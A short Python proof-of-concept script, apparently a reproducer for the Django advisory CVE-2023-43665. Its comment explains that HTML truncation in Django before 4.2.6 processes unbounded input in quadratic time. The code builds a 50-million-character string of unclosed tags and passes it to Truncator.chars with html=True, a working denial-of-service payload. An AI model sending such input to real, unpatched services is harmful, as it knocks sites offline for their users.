# PYSEC-2023-226 (CVE-2023-43665): Django before 4.2.6, Truncator.chars()/words() with html=True process input of
# any length; 4.2.6 truncates it to MAX_LENGTH_HTML (5,000,000 characters) first. Every unclosed tag is inserted
# at the front of a list (quadratic in the number of tags), so 50 million characters of tags take the CPU far
# longer than the 5 million the fixed version keeps.
from django.conf import settings

settings.configure(USE_I18N=False)
from django.utils.text import Truncator  # noqa: E402

Truncator(("<" + "a" * 98 + ">") * 500_000).chars(10, html=True)
